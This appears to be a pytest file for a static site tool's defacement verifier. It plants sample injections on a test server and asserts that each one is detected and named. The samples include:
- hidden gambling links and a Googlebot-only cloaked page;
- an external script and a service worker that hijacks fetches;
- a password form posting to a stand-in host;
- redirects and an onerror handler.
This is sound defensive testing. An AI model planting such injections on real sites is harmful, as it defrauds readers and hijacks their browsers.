"""A site that was defaced is found out, in every way in which that is done, and what was done is named."""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from pressroom import cli, manifest
from pressroom.build.command import build
from pressroom.digests import hex_digest
from pressroom.hosts.deployments import counter
from pressroom.hosts.deployments.record import PATHS, deployment_files
from pressroom.hosts.signing import make_pair, signer
from pressroom.hosts.verification.headers import wanted_headers
from pressroom.hosts.verification.http.fetching import Limits
from pressroom.hosts.verification.result import Question
from pressroom.hosts.verification.verify import verify
from pressroom.manifest import ManifestEntry
from pressroom.origin import Origin
from tests.conftest import BASE, NOW, SETTINGS, jpeg, lay, release

from .defacing import PublicSite, Reply, Rule, deploy, serve

HURRIED = Limits(per_second=1e9, backoff=0, attempts=2)
TELEPHONE = "0811-1000-2000"
CONTENT = BASE | {
    "siaran-pers/satu.md": release(
        "Satu", "2022-09-01", f"Hubungi {TELEPHONE} pada jam kerja.", foto="foto/satu.jpg"
    ),
    "siaran-pers/dua.md": release(
        "Dua", "2022-09-02", lampiran="lampiran/jadwal.pdf", alamat_lama="berita/dua/"
    ),
    "siaran-pers/sandi.md": release("Tiga", "2022-09-03", status="sembunyi"),
    "foto/satu.jpg": jpeg("red"),
    "lampiran/jadwal.pdf": b"%PDF-1.4 jadwal",
}
SATU, DUA = "siaran-pers/2022/09/satu/index.html", "siaran-pers/2022/09/dua/index.html"


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[PublicSite, Path, Path]]:
    """A server, an output that was built for its address, and a repository that has keys and remembers nothing."""
    place = tmp_path_factory.mktemp("umum")
    repository = place / "repositori"
    repository.mkdir()
    (place / "rumah").mkdir()
    with serve("/pers") as site, pytest.MonkeyPatch.context() as patch:
        output = place / "output"
        patch.setenv("SOURCE_DATE_EPOCH", str(int(NOW.timestamp())))
        # Without cards and letters, which take most of the time of publishing.
        build(SETTINGS, content=lay(place / "content", CONTENT), output=output, site=site.address)
        patch.setenv("HOME", str(place / "rumah"))
        patch.chdir(repository)
        make_pair()
        yield site, output, repository


@pytest.fixture
def site(
    served: tuple[PublicSite, Path, Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> PublicSite:
    """The site as it was deployed, signed and remembered; the current folder is its repository, without a good copy."""
    public, output, repository = served
    shutil.copytree(repository / "keys", tmp_path / "keys")
    monkeypatch.setenv("HOME", str(repository.parent / "rumah"))
    monkeypatch.chdir(tmp_path)
    public.files = deploy(output, 7)
    public.rule, public.headers, public.compressed = None, {}, True
    public.log.clear()
    counter.remember("", Path(".cache"), {path: public.files[path] for path in PATHS})
    return public


def found(site: PublicSite, **options: object) -> list[str]:
    """The findings, a line each, without the address of the site."""
    result = verify(question(site, **options), print, HURRIED)
    return [f"{one.address.removeprefix(site.address)}: {one.advice.what}" for one in result.findings]


def question(site: PublicSite, **options: object) -> Question:
    settled = {
        "address": site.address,
        "remote": "",
        "cache": Path(".cache"),
        "output": Path("output"),
    } | options
    return Question(**settled)  # type: ignore[arg-type]


def with_copy(served: tuple[PublicSite, Path, Path]) -> None:
    """A good copy of the site lies in the current folder, as on the laptop that published it."""
    os.symlink(served[1], "output")


def test_a_site_as_it_was_published_is_clean_however_it_is_sent(site: PublicSite) -> None:
    for site.compressed in (True, False):
        result = verify(question(site), print, HURRIED)
        assert result.findings == []
        assert result.signed
        assert result.checked == result.total - 1 > 30
    assert not any("pressroom" in str(headers).lower() for _, headers in site.log)
    assert any("sembunyi" in note for note in result.notes)


LINKS = (
    '<div style="position:absolute; left:-9999px"><a href="https://slot88.example/gacor">slot gacor</a></div>'
)


def inject(text: str) -> Callable[[PublicSite], None]:
    return lambda site: site.change(SATU, "</main>", f"{text}</main>")


def changed_telephone(site: PublicSite) -> None:
    site.change(SATU, TELEPHONE, "0899-9999-9999")


def swapped_pdf(site: PublicSite) -> None:
    site.files["lampiran/jadwal.pdf"] = b"%PDF-1.7 /URI (https://unduh.example/a.exe)"


def extra_linked_page(site: PublicSite) -> None:
    site.change(SATU, "</main>", '<a href="/pers/bonus/">bonus</a></main>')
    site.files["bonus/index.html"] = b'<h1>Bonus</h1><a href="https://slot88.example/">daftar</a>'


def redirect(site: PublicSite) -> None:
    site.rule = lambda path, headers: (
        Reply(302, headers={"Location": "https://slot88.example/"})
        if path == SATU.removesuffix("index.html")
        else None
    )


def changed_feed(site: PublicSite) -> None:
    site.change("feed.xml", "</feed>", '<entry><link href="https://slot88.example/feed"/></entry></feed>')


def service_worker(site: PublicSite) -> None:
    site.files["sw.js"] = (
        b"self.addEventListener('fetch', e => e.respondWith(fetch('https://slot88.example/')))"
    )
    site.change(SATU, "</main>", "<script>navigator.serviceWorker.register('/pers/sw.js')</script></main>")


def for_search_engines(site: PublicSite) -> None:
    def rule(path: str, headers: object) -> Reply | None:
        agent = headers["user-agent"]  # type: ignore[index]
        if path == "" and "Googlebot" in agent and "Android" not in agent:
            body = site.files["index.html"].replace(b"</main>", LINKS.encode() + b"</main>")
            return Reply(200, body, {"Content-Type": "text/html"})
        return None

    site.rule = rule


def changed_robots(site: PublicSite) -> None:
    site.files["robots.txt"] += b"Sitemap: https://slot88.example/sitemap.xml\n"


DEFACED: dict[str, tuple[Callable[[PublicSite], None], list[str]]] = {
    "hidden gambling links": (
        inject(LINKS),
        [
            "/siaran-pers/2022/09/satu/: isinya bukan yang diterbitkan",
            "tautan tersembunyi ke https://slot88.example/gacor «slot gacor»",
        ],
    ),
    "a script": (
        inject('<script src="//jahat.example/x.js"></script>'),
        ["skrip dari http://jahat.example/x.js"],
    ),
    "a changed telephone number": (
        changed_telephone,
        ["memuat nomor 0899-9999-9999, yang tidak ada di halaman lain"],
    ),
    "a swapped PDF": (
        swapped_pdf,
        [
            "/lampiran/jadwal.pdf: isinya bukan yang diterbitkan (semula 15 byte, kini 43 byte)",
            "menyebut https://unduh.example/a.exe",
        ],
    ),
    "an extra linked page": (
        extra_linked_page,
        ["/bonus/: halaman ini bukan terbitan kita", "tautan ke https://slot88.example/ «daftar»"],
    ),
    "a redirect": (
        redirect,
        ["/siaran-pers/2022/09/satu/: pembaca dialihkan ke luar situs, ke https://slot88.example/"],
    ),
    "a changed feed": (
        changed_feed,
        ["/feed.xml: isinya bukan yang diterbitkan", "menyebut https://slot88.example/feed"],
    ),
    "a service worker": (
        service_worker,
        ["skrip yang mendaftarkan service worker", "/sw.js: halaman ini bukan terbitan kita"],
    ),
    "a page served only to a search engine's agent": (
        for_search_engines,
        [
            "/: isinya lain bila dibuka mesin pencari Google: disisipkan tautan tersembunyi ke https://slot88.example/gacor"
        ],
    ),
    "a changed robots.txt": (
        changed_robots,
        ["/robots.txt: isinya bukan yang diterbitkan", "menyebut https://slot88.example/sitemap.xml"],
    ),
}


@pytest.mark.parametrize("name", DEFACED)
def test_a_defaced_site_is_found_and_what_was_done_is_named(site: PublicSite, name: str) -> None:
    deface, said = DEFACED[name]
    deface(site)
    lines = found(site)
    assert lines
    for phrase in said:
        assert any(phrase in line for line in lines), lines


WITH_A_COPY = {
    "a changed telephone number": (
        changed_telephone,
        f"semula «… {TELEPHONE}», kini «… 0899-9999-9999»".replace("… ", "Hubungi "),
    ),
    "a changed robots.txt": (changed_robots, "ditambahkan «Sitemap: https://slot88.example/sitemap.xml»"),
    "text in a page": (
        lambda site: site.change(SATU, "jam kerja", "jam malam"),
        "semula «pada jam kerja.», kini «pada jam malam.»",
    ),
    "hidden words": (inject("<p hidden>judi online</p>"), "disisipkan tulisan tersembunyi «judi online»"),
}


@pytest.mark.parametrize("name", WITH_A_COPY)
def test_a_good_copy_tells_what_the_words_were(
    site: PublicSite, served: tuple[PublicSite, Path, Path], name: str
) -> None:
    deface, said = WITH_A_COPY[name]
    deface(site)
    with_copy(served)
    assert any(said in line for line in found(site)), found(site)


def test_without_a_good_copy_the_way_to_one_is_told(site: PublicSite) -> None:
    changed_telephone(site)
    notes = verify(question(site), print, HURRIED).notes
    assert any("git switch --detach aaaaaaaaaaaa" in note for note in notes)


NAMED = {
    "an iframe": (
        '<iframe src="https://slot88.example/f"></iframe>',
        "bingkai (iframe) ke https://slot88.example/f",
    ),
    "a form": (
        '<form action="https://slot88.example/p"><input name=sandi></form>',
        "formulir yang mengirim ke https://slot88.example/p",
    ),
    "a refresh": (
        '<meta http-equiv=Refresh content="0;url=https://slot88.example/">',
        "pengalihan otomatis «0;url=https://slot88.example/»",
    ),
    "an inline script": (
        "<script>location='https://slot88.example'</script>",
        "disisipkan skrip «location='https://slot88.example'»",
    ),
    "a handler": (
        '<img src="/pers/kartu.png" onerror="alert(1)">',
        "perintah skrip pada <img onerror> «alert(1)»",
    ),
    "a link that is no longer closed": (
        '<a href="https://slot88.example/b">bonus',
        "tautan ke https://slot88.example/b «bonus",
    ),
    "a link in the words of browsers": (
        '<a href=" /\\slot88.example/c">c</a>',
        "tautan ke http://slot88.example/c «c»",
    ),
    "a canonical address": (
        '<link rel=canonical href="https://slot88.example/d">',
        "rujukan ke https://slot88.example/d «canonical»",
    ),
}


@pytest.mark.parametrize("name", NAMED)
def test_what_is_injected_is_named(site: PublicSite, name: str) -> None:
    markup, said = NAMED[name]
    inject(markup)(site)
    lines = found(site)
    assert any(said in line for line in lines), lines
    # Nothing of our own is named beside it.
    assert not any("«Surel»" in line or "wa.me" in line for line in lines), lines


def test_missing_pages_redirects_within_and_what_every_address_answers(site: PublicSite) -> None:
    def rule(path: str, headers: object) -> Reply | None:
        if path == "berita/dua/":  # a former address: hosts that can send readers on themselves
            return Reply(301, headers={"Location": f"/pers/{DUA.removesuffix('index.html')}"})
        if path == DUA.removesuffix("index.html"):
            return Reply(302, headers={"Location": "/pers/"})
        if path in site.files or f"{path}index.html" in site.files or not path:
            return None
        return Reply(200, LINKS.encode(), {"Content-Type": "text/html"})

    del site.files[SATU]
    site.rule = rule
    lines = found(site)
    assert not any("berita/dua" in line for line in lines)
    assert any(line.startswith("/siaran-pers/2022/09/dua/: pembaca dialihkan ke http") for line in lines)
    assert any(
        "alamat acak dijawab dengan isi yang bukan terbitan kita" in line and "slot88" in line
        for line in lines
    )
    assert not any("sw.js" in line for line in lines)
    site.rule = None
    assert "/siaran-pers/2022/09/satu/: tidak ada lagi (jawaban 404)" in found(site)


def test_an_older_state_is_known_by_its_counter_and_told_apart_from_the_last(
    site: PublicSite, served: tuple[PublicSite, Path, Path]
) -> None:
    last = deploy(served[1], 9)
    counter.remember("", Path(".cache"), {path: last[path] for path in PATHS})
    assert found(site) == [
        "/data/terbit.json: keadaan lama dipasang kembali: pengiriman ke-7 (2022-09-21T02:00:00+00:00), padahal yang terakhir ke-9 (2022-09-21T02:00:00+00:00)"
    ]


def test_a_record_that_is_forged_unsigned_gone_or_another_s_is_not_believed(
    site: PublicSite, tmp_path: Path
) -> None:
    record, file_list = (site.files[path] for path in PATHS)
    changed_telephone(site)
    changed = "/siaran-pers/2022/09/satu/: isinya bukan yang diterbitkan"
    said = {
        record.replace(b'"counter":7', b'"counter":8'): "tanda tangannya tidak cocok dengan kunci publik",
        record.split(b'"signature"')[0] + b'"signature":""}': "tidak bertanda tangan, jadi bukan dari kita",
        b"<h1>Hacked</h1>": "catatan pengiriman hilang dari situs (isinya bukan catatan)",
        record.replace(site.address.encode(), b"https://lain.example"): "ini untuk https://lain.example",
    }
    for forged, sentence in said.items():
        site.files[PATHS[0]] = forged
        lines = found(site)
        assert any(sentence in line for line in lines), lines
        # What the repository remembers is compared with instead.
        assert any(changed in line for line in lines), lines
    site.files[PATHS[0]] = record
    site.files[PATHS[1]] = file_list.replace(b"robots.txt\t", b"robots2.txt\t")
    lines = found(site)
    assert any("daftar berkas bukan yang disebut catatan" in line for line in lines)
    assert any(changed in line for line in lines), lines


def test_a_city_without_keys_is_told_what_that_means(
    site: PublicSite, served: tuple[PublicSite, Path, Path]
) -> None:
    shutil.rmtree("keys")
    site.files = deploy(served[1], 7)
    result = verify(question(site), print, HURRIED)
    assert not result.findings
    assert any("belum punya kunci" in note for note in result.notes)
    site.files = deploy(served[1], 8)
    assert ["lebih baru daripada yang tercatat" in line for line in found(site)] == [True]


def test_a_deployment_meanwhile_is_noticed(site: PublicSite, served: tuple[PublicSite, Path, Path]) -> None:
    deployments = iter(range(8, 20))

    def deployed(times: int) -> None:
        def rule(path: str, headers: object) -> None:
            nonlocal times
            if path == "robots.txt" and times:
                times -= 1
                site.files = deploy(served[1], next(deployments))

        site.rule = rule

    deployed(1)
    result = verify(question(site), print, HURRIED)
    assert result.record
    assert (result.record.counter, result.findings, result.complete) == (8, [], True)
    deployed(50)
    result = verify(question(site), print, HURRIED)
    assert (result.findings, result.complete) == ([], False)
    assert "sedang dikirim selama diperiksa" in result.notes[-1]


MOMENT = datetime(2022, 9, 21, 2, 0, tzinfo=UTC)
OLD = b"<h1>Lama</h1>"


def copied(body: bytes) -> Rule:
    """A network that has ``body`` as its copy of a page, and a clock at the moment of the deployment."""

    def rule(path: str, headers: Mapping[str, str]) -> Reply | None:
        is_copy = path == SATU.removesuffix("index.html") and not headers["query"]
        return Reply(200, body, {"Content-Type": "text/html"}) if is_copy else None

    return rule


def stale(site: PublicSite, now: datetime | None) -> bool:
    """Whether the page of that network is excused, at the time ``now``."""
    result = verify(question(site, now=now), print, HURRIED)
    noted = any("masih salinan lama" in note for note in result.notes)
    assert bool(result.findings) is not noted
    assert result.complete is not noted
    return noted


def test_a_record_that_is_never_the_same_hides_nothing(
    site: PublicSite, served: tuple[PublicSite, Path, Path]
) -> None:
    """What is found is kept, though the host answers as if it were deployed to all the time."""
    last = site.files[PATHS[0]]
    former = [deploy(served[1], number)[PATHS[0]] for number in (5, 6)]
    changed_robots(site)
    kinds = {
        "blanks": lambda asked: last + b" " * asked,
        "former ones that are signed": lambda asked: last if asked % 2 else former[asked == 2],
        "forged ones": lambda asked: last.replace(b'"counter":7', b'"counter":%d' % (6 + asked)),
    }
    for kind, record in kinds.items():
        asked = 0

        def rule(path: str, headers: object, record: Callable[[int], bytes] = record) -> Reply | None:
            nonlocal asked
            asked += path == PATHS[0]
            return Reply(200, record(asked)) if path == PATHS[0] else None

        site.rule = rule
        lines = found(site)
        assert any("/robots.txt: isinya bukan" in line for line in lines), kind
        assert any("catatan pengiriman lain tiap kali diminta" in line for line in lines), kind


def test_without_keys_a_newer_record_hides_nothing_either(
    site: PublicSite, served: tuple[PublicSite, Path, Path]
) -> None:
    shutil.rmtree("keys")
    numbers = iter(range(8, 20))
    changed_robots(site)
    robots = site.files["robots.txt"]

    def rule(path: str, headers: object) -> Reply | None:
        if path == PATHS[0]:
            return Reply(200, deploy(served[1], next(numbers))[path])
        return Reply(200, robots) if path == "robots.txt" else None

    site.rule = rule
    assert any("/robots.txt: isinya bukan" in line for line in found(site))

    # Nor one after which nothing more can be compared, where the repository remembers nothing.
    shutil.rmtree(".cache")
    asked = 0

    def then_silent(path: str, headers: object) -> Reply | None:
        nonlocal asked
        asked += path == PATHS[0]
        if path != PATHS[0]:
            return None
        return Reply(503) if asked > 2 else Reply(200, deploy(served[1], asked)[path])

    site.rule = then_silent
    result = verify(question(site), print, HURRIED)
    assert not result.complete
    assert any(one.address.endswith("/robots.txt") for one in result.findings)


def test_a_copy_that_a_network_has_not_renewed_yet_accuses_nobody(site: PublicSite) -> None:
    site.headers = {"Date": "Wed, 21 Sep 2022 02:00:00 GMT"}
    site.rule = copied(OLD)
    assert stale(site, MOMENT + timedelta(minutes=40))
    # The host may say what time it is as it likes.
    assert not stale(site, MOMENT + timedelta(hours=2))
    assert not stale(site, None)
    for injected in (LINKS, "<script>alert(1)</script>", "<p>Hubungi 0899-9999-9999</p>"):
        site.rule = copied(OLD + injected.encode())
        assert not stale(site, MOMENT + timedelta(minutes=40))


def test_a_copy_of_what_the_deployment_before_had_accuses_nobody(
    site: PublicSite, served: tuple[PublicSite, Path, Path]
) -> None:
    published = manifest.load(served[1])
    assert published
    published.files[SATU] = ManifestEntry(hex_digest(OLD), "text/html", len(OLD))
    moment = MOMENT.isoformat()
    before = deployment_files(published, Origin("a" * 40, False, moment, moment, (), ""), 7, signer())
    counter.remember("", Path(".cache"), before)
    site.files = deploy(served[1], 8)
    for body, excused in ((OLD, True), (OLD + b"<p>Baru</p>", False)):
        site.rule = copied(body)
        assert stale(site, MOMENT + timedelta(hours=5)) is excused


def test_headers_are_missed_where_the_host_can_send_them(site: PublicSite) -> None:
    wanted = wanted_headers(site.files["_headers"].decode(), "/pers/")
    assert "content-security-policy" in wanted
    assert any(
        "tidak mengirim kepala jawaban" in note for note in verify(question(site), print, HURRIED).notes
    )
    site.headers = {**wanted}
    assert found(site) == []
    del site.headers["content-security-policy"]
    site.headers["referrer-policy"] = "unsafe-url"
    assert found(site) == [
        "/: kepala jawaban content-security-policy tidak dikirim, padahal yang lain dikirim",
        "/: kepala jawaban referrer-policy bukan yang diminta _headers",
    ]


def test_a_busy_site_is_asked_again_and_one_that_stays_silent_is_not_called_defaced(site: PublicSite) -> None:
    refused: set[str] = set()

    def busy(path: str, headers: object) -> Reply | None:
        first = path not in refused
        refused.add(path)
        return Reply(429, headers={"Retry-After": "0"}) if first else None

    site.rule = busy
    assert found(site) == []
    site.rule = lambda path, headers: Reply(503) if path.startswith("siaran-pers/") else None
    result = verify(question(site), print, HURRIED)
    assert not result.findings
    assert result.unanswered
    assert any("tidak dijawab" in note for note in result.notes)
    site.rule = lambda path, headers: None if path in PATHS else Reply(500)
    assert any("berhenti menjawab" in note for note in verify(question(site), print, HURRIED).notes)


def test_search_engines_that_are_turned_away_prove_nothing(site: PublicSite) -> None:
    site.rule = lambda path, headers: Reply(403) if "Googlebot" in headers["user-agent"] else None
    result = verify(question(site), print, HURRIED)
    assert not result.findings
    assert not result.complete
    assert sum("ditolak (jawaban 403)" in note for note in result.notes) == 2


def test_commands_say_what_was_found_and_end_as_workflows_need_it(
    site: PublicSite, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("pressroom.hosts.verification.verify.POLITE", HURRIED)
    arguments = ["verify", "--remote", ""]
    assert cli.main([*arguments, site.address]) == 0
    assert re.search(r"Tidak ada temuan: \d+ dari \d+ berkas diperiksa", capsys.readouterr().out)
    changed_robots(site)
    inject("<p>@orang fixes #3 ``` <img src=x> \x1b[31mMERAH\u202e</p>")(site)
    with_escapes = [*arguments, site.address, "--format", "github", "--report", "laporan.md"]
    assert cli.main(with_escapes) == 1
    said = capsys.readouterr().out
    assert "::error title=Situs berubah::" in said
    assert said.count("::error") == 2
    assert "\x1b" not in said
    report = Path("laporan.md").read_text()
    fence = re.findall(r"^(`{3,})text$", report, re.MULTILINE)
    outside = re.sub(rf"^{fence[0]}text\n.*?^{fence[0]}$", "", report, flags=re.MULTILINE | re.DOTALL)
    assert "slot88" in report
    assert "slot88" not in outside
    assert "127.0.0.1" not in outside
    assert cli.main([*arguments, "http://127.0.0.1:9/"]) == 2
    assert cli.main([*arguments, "humas.kota.example"]) == 2
    assert cli.main([*arguments]) == 2
    assert cli.main([*arguments, "http://169.254.169.254/"]) == 2
    told = capsys.readouterr().err.splitlines()
    assert "tidak menjawab" in told[0]
    assert "bukan alamat situs" in told[1]
    assert "Tulis alamat situs yang diperiksa" in told[2]
    assert "alamat jaringan dalam" in told[3]
